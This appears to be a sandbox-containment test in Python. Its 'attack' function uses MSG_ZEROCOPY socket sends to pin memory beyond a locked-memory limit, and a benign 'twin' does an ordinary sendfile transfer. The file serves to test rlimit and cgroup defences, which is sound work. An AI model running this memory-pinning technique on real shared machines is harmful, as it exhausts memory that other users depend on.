"""Pin memory by sending it without a copy.

Technique: with SO_ZEROCOPY and MSG_ZEROCOPY the pages of a buffer stay pinned until the receiver has read them; the sender
    frees and takes memory anew meanwhile. Pinned pages are counted as locked memory, per user of the machine.
Success: more than the memory limit is pinned.
Stopped by: rlimits, memory_cgroup
"""
import mmap
import socket

LIMIT = parameters.get("memory_bytes_max", 128 << 20)
SO_ZEROCOPY, MSG_ZEROCOPY = 60, 0x4000000


def attack():
    server = socket.create_server(("127.0.0.1", 0))
    pinned, kept = 0, []
    while pinned < 2 * LIMIT:
        client = socket.create_connection(server.getsockname())
        client.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
        client.setblocking(False)
        memory = mmap.mmap(-1, 1 << 20)
        memory[:] = b"x" * len(memory)
        pinned += client.send(memory, MSG_ZEROCOPY)
        kept.append((client, server.accept()))
        memory.close()
    return f"{pinned >> 20} MB are pinned"


def twin():
    """Sending a file without a copy through user space."""
    with open("/work/file", "wb") as file:
        file.write(bytes(1 << 20))
    here, there = socket.socketpair()
    with open("/work/file", "rb") as file:
        assert os.sendfile(here.fileno(), file.fileno(), 0, 1 << 16) > 0
    assert there.recv(1 << 16)
